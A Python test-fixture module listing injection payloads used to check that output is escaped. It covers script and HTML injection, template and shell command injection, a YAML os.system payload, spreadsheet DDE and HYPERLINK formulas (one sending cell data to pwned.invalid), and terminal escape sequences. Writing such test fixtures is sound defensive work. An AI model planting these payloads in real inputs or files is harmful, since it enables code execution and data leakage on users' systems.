"""Texts that a reader must only ever see as text: scripts, templates, markup, formulas, escape sequences.

What they would do if something ran them can be seen: a page gets the title PWNED, opens a dialog or asks for an
address; a shell, a YAML parser or a spreadsheet makes the file or the key PWNED.
"""

from __future__ import annotations

PAYLOADS: dict[str, str] = {
    # pages: elements, attributes, addresses, ends of scripts and comments
    "script": "<script>document.title='PWNED'</script>",
    "script, other case": "<ScRiPt\n>document.title='PWNED'</sCrIpT\t>",
    "end of a script": "</script><script>document.title='PWNED'</script>",
    "start of a script and a comment": "<!--<script>",
    "end of a comment": "--><img src=x onerror=\"document.title='PWNED'\">",
    "image": "<img src=x onerror=\"document.title='PWNED'\">",
    "image, quoted otherwise": "<img src='x' onerror='alert(\"PWNED\")'>",
    "image, no quotes": "<img/src=x/onerror=document['title']=`PWNED`//",
    "drawing": "<svg onload=\"document.title='PWNED'\"><script>alert('PWNED')</script></svg>",
    "frame": "<iframe srcdoc=\"<script>parent.document.title='PWNED'</script>\"></iframe>",
    "form": "<form action=//pwned.invalid/ id=f><button autofocus onfocus=f.submit()>PWNED</button></form>",
    "navigation": '<meta http-equiv="refresh" content="0;url=https://pwned.invalid/">',
    "base": '<base href="https://pwned.invalid/">',
    "style sheet": "</style><link rel=stylesheet href=https://pwned.invalid/p.css><style>*{display:none}</style>",
    "object": "<object data=\"data:text/html,<script>alert('PWNED')</script>\"></object>",
    "opened details": "<details open ontoggle=\"document.title='PWNED'\"><summary>PWNED</summary></details>",
    "attribute": '" onmouseover="document.title=\'PWNED\'" autofocus onfocus="document.title=\'PWNED\'" x="',
    "attribute, other quotes": "' onmouseover='document.title=1' style='position:fixed;inset:0",
    "end of a title": "</title></textarea></pre></table></div></section><h1>PWNED</h1>",
    "section of XML": "]]><script>document.title='PWNED'</script><![CDATA[",
    "entities": "&lt;script&gt;document.title='PWNED'&lt;/script&gt;&#x3c;img src=x&#x3e;&amp;lt;",
    "address of a script": "javascript:document.title='PWNED'//",
    "link of Markdown": "[PWNED](javascript:alert('PWNED')) ![PWNED](https://pwned.invalid/p.png) `</code>`",
    "attributes of Markdown": "x {: #main onmouseover=\"document.title='PWNED'\" } `x`{: onclick=alert('PWNED') }",
    "table and block of Markdown": "a | b || ``` \n\n# PWNED\n\n<script>alert('PWNED')</script>\n\n* * *",
    "formula of a page": "$$\\href{javascript:document.title='PWNED'}{x}$$",
    # templates, formats and names that programs read
    "template": "{{plans}} {{x}} {{ 7*7 }} {% raw %}",
    "template of scripts": "${document.title='PWNED'} `${alert('PWNED')}`",
    "template of underscore": "<% document.title='PWNED' %><%= value %>",
    "fields of tooltips": "@{x}{safe} @plan{0,0.0} $name ${x} @@ @{",
    "formats": "%s %(x)d %n {0} {x!r} {",
    "group of a pattern": "\\1 \\g<0> $1 $& (?:",
    "ids of figures": '"p1001" &quot;p1002&quot; 123e4567-e89b-12d3-a456-426614174000',
    "prototype": "__proto__",
    # quotes, separators, lengths
    "quotes": "'\"`\\'\\\"‘’“”",
    "backslashes": "C:\\new\\table\\u003cscript\\x3e\\",
    "line ends": "first\nPWNED: 1\r\nsecond\rthird\n#!/bin/sh\n",
    "separators of lines": "a\u2028document.title='PWNED'\u2029b\u0085c",
    "marks of direction": "\u202eDENWP\u202c \u2066right\u2069 \u200f\u200eleft \u061c",
    "invisible": "a\u200bb\u200dc\ufeffd\u00ade\u2060f",
    "combined": "Z\u0351\u036f\u0363a\u0323\u0310l\u0334g\u0321o \U0001f469\u200d\U0001f4bb \uff1cscript\uff1e \ufffd",
    "null": "a\x00b",
    "long word": "W" * 3_000,
    "path": "../../../PWNED",
    # terminals
    "sequences of a terminal": "\x1b]0;PWNED\x07\x1b[2J\x1b[31mred\x1b]8;;https://pwned.invalid\x07link\x1b\\",
    "controls of a terminal": "\x9b31mred\x08\x08\x08\x7f\x0b\x0c\ttab",
    "markup of rich": "[bold red]PWNED[/bold red] [link=https://pwned.invalid]x[/link] [/]",
    # math text, shells, YAML, spreadsheets
    "math text": "$\\frac{",
    "math text, whole": "$x^2$ $$ \\$ ${}_{$",
    "shell": "$(touch PWNED) `touch PWNED`; touch PWNED & | touch PWNED > PWNED",
    "shell, quoted": "'; touch PWNED; ' \"; touch PWNED; \" !!",
    "comment of a shell": "# x\ntouch PWNED\n#",
    "option": "--help",
    "YAML": "- &a [*a, *a]\nPWNED: !!python/object/apply:os.system ['touch PWNED']",
    "YAML, a value of another type": "1e3",
    "formula": "=cmd|'/c touch PWNED'!A1",
    "formula by a link": '=HYPERLINK("https://pwned.invalid/?"&A1,"PWNED")',
    "formula by a sign": "+1+1|PWNED",
    "formula by an at": "@SUM(1+1)",
    "formula by a minus": "-2+3+cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
}
"""Texts by what they attack."""

HARMLESS = "harmless"
"""The text whose outputs those of a payload are compared with."""

FILE_NAMES: dict[str, str] = {
    what: text for what, text in PAYLOADS.items() if not {"/", "\0"} & {*text} and len(text.encode()) < 200
}
"""Those that can be the name of a file, or a part of it."""
